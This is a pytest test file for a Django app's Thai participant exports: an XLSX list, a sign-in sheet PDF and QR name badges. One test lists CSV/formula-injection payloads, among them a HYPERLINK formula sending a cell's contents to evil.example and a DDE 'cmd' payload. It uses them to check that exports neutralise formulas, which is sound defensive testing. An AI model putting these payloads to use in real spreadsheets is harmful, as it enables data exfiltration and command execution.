"""The participant list as XLSX, the Thai sign-in sheet and the name badges (PDF).

The files are read back the way a person gets them: the XLSX with openpyxl (and its XML),
the PDFs as text with pdftotext and as pixels with pdftoppm, the badges' QR codes with zbarimg.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import subprocess
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cophub.core.thai import thai_digits
from cophub.orgs.models import Organization
from cophub.participants import exports, pdf
from cophub.programs.models import Registration
from cophub.testing import PersonFactory, RegistrationFactory, SiteFactory, count_queries

S = Registration.Status
NAMES = ("export_xlsx", "signin_pdf", "badges_pdf")


def url(name: str, activity_id: int) -> str:
    return reverse(f"participants:{name}", args=[activity_id])


def register(activity, *, status=S.REGISTERED, org="OPS", **person) -> Registration:
    """``org``: an Organization, a reference-data code, or None for nobody's staff."""
    person["organization"] = Organization.objects.get(code=org) if isinstance(org, str) else org
    return RegistrationFactory(activity=activity, person=PersonFactory(**person), status=status)


@pytest.fixture
def dated(activity):
    """The activity held on 12–13 March 2018 (พ.ศ. ๒๕๖๑) at a site in Ayutthaya."""
    from cophub.orgs.models import Province

    activity.start_date, activity.end_date = dt.date(2018, 3, 12), dt.date(2018, 3, 13)
    activity.title = "ศึกษาดูงานการบริหารจัดการน้ำ"
    activity.save()
    SiteFactory(
        activity=activity, name="ศูนย์เรียนรู้", district="วังน้อย",
        province=Province.objects.get(name_th="พระนครศรีอยุธยา"),
    )  # fmt: skip
    return activity


def pdf_text(tmp_path: Path, body: bytes, page: int | None = None) -> str:
    path = tmp_path / "out.pdf"
    path.write_bytes(body)
    pages = ["-f", str(page), "-l", str(page)] if page else []
    return subprocess.run(
        ["pdftotext", "-layout", *pages, str(path), "-"], capture_output=True, check=True, text=True
    ).stdout


def qr_codes(tmp_path: Path, body: bytes, page: int) -> list[str]:
    path = tmp_path / "badges.pdf"
    path.write_bytes(body)
    png = tmp_path / f"page{page}"
    subprocess.run(
        ["pdftoppm", "-r", "150", "-f", str(page), "-l", str(page), "-singlefile", "-png",
         str(path), str(png)],
        check=True, capture_output=True,
    )  # fmt: skip
    result = subprocess.run(
        ["zbarimg", "-q", "--raw", str(png.with_suffix(".png"))], capture_output=True, text=True
    )
    return result.stdout.split()


def workbook(body: bytes):
    return load_workbook(io.BytesIO(body))


def table(sheet, header_row: int) -> list[list]:
    return [list(r) for r in sheet.iter_rows(min_row=header_row, values_only=True)]


# --- the list -----------------------------------------------------------------------
def test_the_list_groups_by_organisation_in_thai_order_and_leaves_out_the_cancelled(activity, dopa):
    ops = Organization.objects.get(code="OPS")
    register(activity, first_name="ไพโรจน์", org=ops)
    register(activity, first_name="กนก", org=ops)
    register(activity, first_name="เกียรติ", org=dopa, status=S.ATTENDED)
    register(activity, first_name="อรุณ", org=dopa, status=S.NO_SHOW)
    register(activity, first_name="ขจร", status=S.CANCELLED)
    register(activity, first_name="งาม", org=None)
    register(activity, first_name="จันทร์", status=S.WAITING)
    register(activity, first_name="ฉลวย", status=S.WAITING)

    plist = exports.participant_list(activity=activity)

    # กรมการปกครอง before สำนักงานปลัดฯ; within each, Thai order (เกียรติ sorts under ก).
    assert [r.first_name for r in plist.rows] == ["เกียรติ", "อรุณ", "กนก", "ไพโรจน์", "งาม"]
    assert [r.first_name for r in plist.waiting] == ["จันทร์", "ฉลวย"]  # queue order
    assert plist.attended == 1
    assert count_queries(lambda: exports.participant_list(activity=activity)) == 2


# --- XLSX ---------------------------------------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+66812345678",
    "-",
    "@SUM(A1:A2)",
    "\tตำแหน่ง",
    "\r=1+1",
    "=1+1",
]


def test_no_cell_of_the_xlsx_is_a_formula_however_people_are_named(organiser_client, activity):
    activity.program.title = "=cmd|' /C calc'!A0"  # a heading cell of its own
    activity.program.save()
    register(activity, first_name=HOSTILE[0], last_name=HOSTILE[1], position=HOSTILE[4],
             prefix=HOSTILE[2], email="x@example.go.th", phone=HOSTILE[1])  # fmt: skip
    register(activity, first_name=HOSTILE[3], last_name=HOSTILE[5], position=HOSTILE[6])

    body = organiser_client.get(url("export_xlsx", activity.pk)).content

    with zipfile.ZipFile(io.BytesIO(body)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    book = workbook(body)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value: c for c in cells}
    for text in [*HOSTILE, "=cmd|' /C calc'!A0"]:
        assert text in values, text  # kept exactly as written, nothing prepended
        assert values[text].data_type == "s" and values[text].quotePrefix, text
    assert not values["x@example.go.th"].quotePrefix  # only what could start a formula


def test_xlsx_heading_columns_and_thai_statuses(organiser_client, dated, dopa):
    # The Thai labels come from the catalogue (/tmp/po/exports.po, merged by the lead).
    checked = timezone.make_aware(dt.datetime(2018, 3, 12, 8, 45))
    register(dated, first_name="สมชาย", last_name="ใจดี", position="นักวิเคราะห์", org=dopa,
             status=S.ATTENDED, email="somchai@example.go.th", phone="0812345678")  # fmt: skip
    Registration.objects.filter(status=S.ATTENDED).update(checked_in_at=checked)
    register(dated, first_name="สมหญิง", prefix="นางสาว", last_name="รักงาน")
    register(dated, first_name="อดิศร", status=S.WAITING)
    register(dated, first_name="ยกเลิก", status=S.CANCELLED)

    response = organiser_client.get(url("export_xlsx", dated.pk))

    assert response.status_code == 200 and response["Content-Type"] == exports.XLSX
    book = workbook(response.content)
    sheet = book.worksheets[0]
    assert sheet.title == "ผู้เข้าร่วม"
    number = thai_digits(dated.number)
    assert sheet["A1"].value == f"ครั้งที่ {number} ศึกษาดูงานการบริหารจัดการน้ำ"
    assert sheet["A2"].value == dated.program.title
    assert sheet["A3"].value == "๑๒–๑๓ มีนาคม ๒๕๖๑ · ศูนย์เรียนรู้ อำเภอวังน้อย จังหวัดพระนครศรีอยุธยา"
    assert sheet["A4"].value == "ลงทะเบียน ๒ คน · เข้าร่วม ๑ คน · รายชื่อสำรอง ๑ คน"
    rows = table(sheet, 6)
    assert rows[0] == ["ลำดับ", "คำนำหน้าชื่อ", "ชื่อ", "นามสกุล", "ตำแหน่ง", "หน่วยงาน",
                       "สถานะ", "เวลาเช็คอิน", "อีเมล", "โทรศัพท์", "โทรศัพท์มือถือ"]  # fmt: skip
    assert rows[1][:10] == [1, "นาย", "สมชาย", "ใจดี", "นักวิเคราะห์", "กรมการปกครอง",
                       "เข้าร่วมแล้ว", "12 มี.ค. 61 08:45", "somchai@example.go.th", "0812345678"]  # fmt: skip
    assert rows[1][10] in ("", None)  # no mobile given on consent
    assert rows[2][:3] == [2, "นางสาว", "สมหญิง"] and rows[2][6] == "ลงทะเบียนแล้ว"
    assert rows[2][7] is None and len(rows) == 3  # the cancelled one is not there
    assert isinstance(rows[1][0], int)  # ลำดับ is a number a spreadsheet can sum
    assert sheet.freeze_panes == "A7" and sheet.auto_filter.ref == "A6:K8"
    assert sheet.column_dimensions["F"].width >= len("กรมการปกครอง")
    assert sheet["C7"].font.name == "Tahoma"
    waiting = book.worksheets[1]
    assert waiting.title == "รายชื่อสำรอง"
    assert [r[2:4] for r in table(waiting, 3)] == [["ชื่อ", "นามสกุล"], ["อดิศร", "ใจดี"]]
    assert table(waiting, 3)[1][6] == "รายชื่อสำรอง"


def test_xlsx_without_a_waiting_list_has_one_sheet_and_english_screens_keep_arabic_digits(
    organiser_client, dated
):
    register(dated, first_name="สมชาย")
    organiser_client.cookies["django_language"] = "en"
    book = workbook(organiser_client.get(url("export_xlsx", dated.pk)).content)
    assert len(book.worksheets) == 1
    sheet = book.worksheets[0]
    assert sheet["A1"].value == f"Activity {dated.number}: ศึกษาดูงานการบริหารจัดการน้ำ"
    assert sheet["A3"].value.startswith("12–13 มีนาคม 2561")
    assert sheet["A4"].value == "Registered: 1 · attended: 0 · waiting list: 0"
    assert table(sheet, 6)[1][6] == "Registered"


def test_contacts_only_for_whoever_runs_the_registration(door_client, sysadmin, activity):
    from django.test import Client

    register(activity, first_name="สมชาย", email="somchai@example.go.th", phone="0812345678")
    body = door_client.get(url("export_xlsx", activity.pk)).content
    header = table(workbook(body).worksheets[0], 6)
    assert len(header[0]) == 8 and "somchai@example.go.th" not in str(header)
    admin = Client()
    admin.force_login(sysadmin)
    header = table(workbook(admin.get(url("export_xlsx", activity.pk)).content).worksheets[0], 6)
    assert len(header[0]) == 11 and header[1][8:10] == ["somchai@example.go.th", "0812345678"]


def test_the_mobile_is_in_the_list_only_while_its_consent_is_in_force(
    organiser_client, sysadmin, activity
):
    """The consented mobile has a column of its own beside the work telephone; a number
    without a consent in force (typed before the rule, or the consent withdrawn) is not shown."""
    from cophub.privacy import selectors, services

    services.notice_publish(actor=sysadmin, notice=selectors.notice_draft())
    given = register(activity, first_name="สมชาย", phone="022223333", mobile="0812345678")
    register(activity, first_name="สมหญิง", mobile="0899999999")  # no consent recorded
    services.consent_give(
        actor=sysadmin, person=given.person, purpose="optional_contact", source="registration"
    )

    def mobiles():
        body = organiser_client.get(url("export_xlsx", activity.pk)).content
        return {r[2]: r[9:11] for r in table(workbook(body).worksheets[0], 6)[1:]}

    assert mobiles() == {"สมชาย": ["022223333", "0812345678"], "สมหญิง": [None, None]}


# --- the sign-in sheet ----------------------------------------------------------------
def test_signin_sheet_is_thai_with_thai_digits_and_a_signature_column(
    organiser_client, dated, dopa, tmp_path
):
    register(
        dated, prefix="นาย", first_name="สมชาย", last_name="ใจดี", position="นักวิเคราะห์", org=dopa
    )
    response = organiser_client.get(url("signin_pdf", dated.pk))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")

    text = pdf_text(tmp_path, response.content)
    first = text.split("\f")[0]
    assert "ใบลงทะเบียน" in first and "ลายมือชื่อ" in first and "ลำดับ" in first
    assert f"ครั้งที่ {thai_digits(dated.number)} เรื่อง ศึกษาดูงานการบริหารจัดการน้ำ" in first
    assert "วันที่ ๑๒ มีนาคม พ.ศ. ๒๕๖๑" in first
    assert "ณ ศูนย์เรียนรู้ อำเภอวังน้อย จังหวัดพระนครศรีอยุธยา" in first
    assert re.search(r"^\s*๑\s+นายสมชาย ใจดี\s+นักวิเคราะห์\s+กรมการปกครอง\s*$", first, re.M)
    # the blank rows for walk-ins carry on the numbering: ๒ … ๑๑
    assert re.search(r"^\s*๑๑\s*$", first, re.M) and not re.search(r"^\s*๑๒\s*$", first, re.M)
    assert "หน้า ๑ จาก ๒" in first  # a two-day activity: one sheet a day
    second = text.split("\f")[1]
    assert "วันที่ ๑๓ มีนาคม พ.ศ. ๒๕๖๑" in second and "นายสมชาย ใจดี" in second
    assert not re.search(r"[0-9]", first.replace(dated.program.title, ""))  # Thai digits only


def test_signin_sheet_repeats_the_table_header_on_every_page(organiser_client, activity, tmp_path):
    for n in range(40):
        register(activity, first_name=f"ผู้เข้าร่วม{chr(0x0E01 + n)}", position="นักทรัพยากรบุคคล")
    text = pdf_text(tmp_path, organiser_client.get(url("signin_pdf", activity.pk)).content)
    pages = text.split("\f")[:-1]
    assert len(pages) >= 3  # 40 people and 10 blank rows do not fit on two pages
    header = re.compile(r"^\s*ลำดับ\s+ชื่อ - สกุล\s+ตำแหน่ง\s+หน่วยงาน\s+ลายมือชื่อ\s*$")
    for n, page in enumerate(pages, 1):
        lines = page.strip("\n").splitlines()
        # the first line of every later page; after the heading on the first
        assert header.match(lines[0 if n > 1 else 5]), (n, lines[:7])
        total = thai_digits(len(pages))
        assert f"หน้า {thai_digits(n)} จาก {total}" in page
    assert "ใบลงทะเบียน" not in pages[1]  # the heading once, the table header on every page
    assert re.search(r"^\s*๕๐\s*$", pages[-1], re.M)  # 40 people + 10 blank rows


def test_a_long_sheet_is_laid_out_again_with_more_page_labels(activity, tmp_path):
    for n in range(45):
        register(activity, first_name=f"คน{chr(0x0E01 + n % 40)}{n}")
    plist = exports.participant_list(activity=activity)
    body = pdf.signin_pdf(plist, pages=1)  # the first guess is far too low
    text = pdf_text(tmp_path, body)
    assert "หน้า ๓ จาก ๓" in text and body == pdf.signin_pdf(plist)


def test_an_empty_list_gives_a_sheet_of_blank_rows_and_a_badge_page_that_says_so(
    organiser_client, activity, tmp_path
):
    sheet = pdf_text(tmp_path, organiser_client.get(url("signin_pdf", activity.pk)).content)
    assert re.search(r"^\s*๑๐\s*$", sheet, re.M) and "ใบลงทะเบียน" in sheet
    badges = pdf_text(tmp_path, organiser_client.get(url("badges_pdf", activity.pk)).content)
    assert "ยังไม่มีผู้ลงทะเบียนในกิจกรรมนี้" in badges


def test_an_activity_without_dates_leaves_the_date_to_write_by_hand(
    organiser_client, activity, tmp_path
):
    activity.start_date = activity.end_date = None
    activity.save()
    text = pdf_text(tmp_path, organiser_client.get(url("signin_pdf", activity.pk)).content)
    assert "วันที่ ......" in text and text.count("\f") == 1  # one sheet, not one a day


# --- badges ---------------------------------------------------------------------------
def test_badges_carry_each_persons_check_in_code_as_a_readable_qr(
    organiser_client, dated, tmp_path
):
    regs = [
        register(dated, first_name=f"สมชาย{chr(0x0E01 + n)}", position="นิติกร") for n in range(9)
    ]
    response = organiser_client.get(url("badges_pdf", dated.pk))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"

    plist = exports.participant_list(activity=dated)
    first_page = qr_codes(tmp_path, response.content, 1)
    assert sorted(first_page) == sorted(r.checkin_code for r in plist.rows[:8])
    assert qr_codes(tmp_path, response.content, 2) == [plist.rows[8].checkin_code]
    assert {*first_page, plist.rows[8].checkin_code} == {r.checkin_code for r in regs}
    text = pdf_text(tmp_path, response.content, page=1)
    assert "นายสมชายก ใจดี" in text and "นิติกร" in text and "สำนักงานปลัดกระทรวงมหาดไทย" in text
    assert "ศึกษาดูงานการบริหารจัดการน้ำ" in text and "๑๒–๑๓ มีนาคม ๒๕๖๑" in text


def test_badges_leave_out_the_waiting_list_and_the_cancelled(organiser_client, activity, tmp_path):
    seated = register(activity, first_name="มา")
    register(activity, first_name="รอ", status=S.WAITING)
    register(activity, first_name="ไม่มา", status=S.CANCELLED)
    body = organiser_client.get(url("badges_pdf", activity.pk)).content
    assert qr_codes(tmp_path, body, 1) == [seated.checkin_code]


def test_a_badge_overfull_with_words_keeps_its_qr_readable(organiser_client, activity, tmp_path):
    activity.title = "ศึกษาดูงานการบริหารจัดการน้ำเพื่อการเกษตรและการพัฒนาที่ยั่งยืน" * 4
    activity.save()
    reg = register(
        activity, prefix="พล.ต.อ. ดร.", first_name="ประเสริฐศักดิ์ศรีวิไลวรรณาสุขสวัสดิ์",
        last_name="ณ อยุธยาวงศ์สวัสดิ์ไพศาล", position="ผู้อำนวยการกองยุทธศาสตร์และแผนงาน " * 4,
    )  # fmt: skip
    body = organiser_client.get(url("badges_pdf", activity.pk)).content
    assert qr_codes(tmp_path, body, 1) == [reg.checkin_code]
    text = pdf_text(tmp_path, body)
    assert "พล.ต.อ. ดร. ประเสริฐศักดิ์ศรีวิไลวรรณาสุขสวัสดิ์" in text and "…" in text


def test_a_long_list_of_badges_is_drawn_by_a_job(
    organiser_client, activity, settings, tmp_path, django_capture_on_commit_callbacks
):
    from cophub.jobs.models import Job

    settings.PARTICIPANT_BADGES_IN_REQUEST = 2
    regs = [register(activity, first_name=f"สมชาย{n}") for n in range(3)]
    page = organiser_client.get(url("badges_pdf", activity.pk))
    assert (
        "รายชื่อมี ๓ คน" in page.content.decode() and not Job.objects.exists()
    )  # a GET starts nothing
    with django_capture_on_commit_callbacks(execute=True):
        response = organiser_client.post(url("badges_pdf", activity.pk))
    job = Job.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("jobs:detail", kwargs={"job_id": job.pk})
    assert (job.kind, job.state, job.subject) == (pdf.BADGES_KIND, "done", activity.title)
    assert (job.done, job.total) == (4, 4)  # three badges, then the layout
    assert job.result_name == f"ป้ายชื่อ ครั้งที่ {activity.number} ศึกษาดูงาน.pdf"
    result = organiser_client.get(reverse("jobs:result", kwargs={"job_id": job.pk}))
    body = b"".join(result.streaming_content)
    assert sorted(qr_codes(tmp_path, body, 1)) == sorted(r.checkin_code for r in regs)


def test_a_badge_job_does_not_outlive_its_starters_permission(activity, member, organiser):
    from cophub.jobs.services import job_run_here

    register(activity, first_name="สมชาย")
    refused = job_run_here(actor=member, kind=pdf.BADGES_KIND, params={"activity_id": activity.pk})
    assert (refused.state, refused.error_code, refused.result_name) == (
        "failed",
        "permission_denied",
        "",
    )
    gone = job_run_here(actor=organiser, kind=pdf.BADGES_KIND, params={"activity_id": 0})
    assert (gone.state, gone.error_code) == ("failed", "not_found")


def test_workers_know_the_badge_job():
    """A worker never loads the URLs (which import the views and so ``pdf``): the job kind
    must be registered by what Django itself loads, ``participants/jobs.py``."""
    import os
    import sys

    code = (
        "import django; django.setup(); from cophub.jobs.runner import KINDS; "
        f"raise SystemExit(0 if {pdf.BADGES_KIND!r} in KINDS else 1)"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "cophub.test_settings"}
    assert subprocess.run([sys.executable, "-c", code], env=env).returncode == 0


# --- file names, methods, permissions, queries ------------------------------------------
def test_file_names_are_thai_with_an_ascii_fallback(organiser_client, activity):
    activity.title = 'ประชุม/สรุป "ผล"'
    activity.save()
    for name, thai_name, inline in [
        ("export_xlsx", f"รายชื่อผู้เข้าร่วม ครั้งที่ {activity.number} ประชุม สรุป ผล.xlsx", False),
        ("signin_pdf", f"ใบลงทะเบียน ครั้งที่ {activity.number} ประชุม สรุป ผล.pdf", True),
        ("badges_pdf", f"ป้ายชื่อ ครั้งที่ {activity.number} ประชุม สรุป ผล.pdf", True),
    ]:
        response = organiser_client.get(url(name, activity.pk))
        disposition = response["Content-Disposition"]
        assert disposition.startswith("inline;" if inline else "attachment;")
        assert f"filename*=UTF-8''{quote(thai_name, safe='')}" in disposition
        assert re.search(r'filename="[a-z-]+-activity-\d+\.(xlsx|pdf)"', disposition)
        assert disposition.isascii()
        assert response["Cache-Control"] == "private, no-store"


def test_a_long_title_is_cut_without_leaving_a_mark_without_its_letter(activity):
    activity.title = "ก" * 59 + "ที่" + "ข" * 50  # position 60 is the vowel ี of ที่
    name, _ = exports.filename("signin", activity, "pdf")
    # the cut falls inside ที่: the whole cluster goes, not just its marks
    assert name == f"ใบลงทะเบียน ครั้งที่ {activity.number} {'ก' * 59}.pdf"


@pytest.mark.parametrize("name", NAMES)
def test_who_may_download(
    name, activity, organiser_client, door_client, member_client, other_client, stranger_client,
    participant_client, coordinator_client,
):  # fmt: skip
    register(activity, first_name="สมชาย")
    target = url(name, activity.pk)
    assert organiser_client.get(target).status_code == 200
    assert door_client.get(target).status_code == 200  # a facilitator at the door
    for client in (member_client, other_client, participant_client, coordinator_client):
        assert client.get(target).status_code == 403
    response = stranger_client.get(target)
    assert response.status_code == 302 and reverse("login") in response["Location"]
    assert organiser_client.get(url(name, activity.pk + 999)).status_code == 404
    # Downloads are GETs; only the badges take a POST (it starts a long list's job).
    assert organiser_client.post(target).status_code == (200 if name == "badges_pdf" else 405)


def test_a_member_starts_no_badge_job(member_client, activity, settings):
    from cophub.jobs.models import Job

    settings.PARTICIPANT_BADGES_IN_REQUEST = 0
    register(activity, first_name="สมชาย")
    assert member_client.get(url("badges_pdf", activity.pk)).status_code == 403
    assert member_client.post(url("badges_pdf", activity.pk)).status_code == 403
    assert not Job.objects.exists()


def test_admins_may_download_everything(sysadmin, activity):
    from django.test import Client

    client = Client()
    client.force_login(sysadmin)
    for name in NAMES:
        assert client.get(url(name, activity.pk)).status_code == 200


# Session, user, the activity with its program, its sites, its registrations; then the
# record of the export (privacy): savepoint, audit row, read, whose data, release.
EXPORT_QUERIES = 10


@pytest.mark.parametrize("name", NAMES)
def test_queries_do_not_grow_with_the_list(name, organiser_client, activity, dopa):
    register(activity, first_name="สมชาย")
    small = count_queries(lambda: organiser_client.get(url(name, activity.pk)))
    for n in range(15):
        register(activity, first_name=f"คน{n}", org=dopa if n % 2 else None)
    SiteFactory(activity=activity)
    SiteFactory(activity=activity)
    assert (
        small
        == count_queries(lambda: organiser_client.get(url(name, activity.pk)))
        == EXPORT_QUERIES
    )
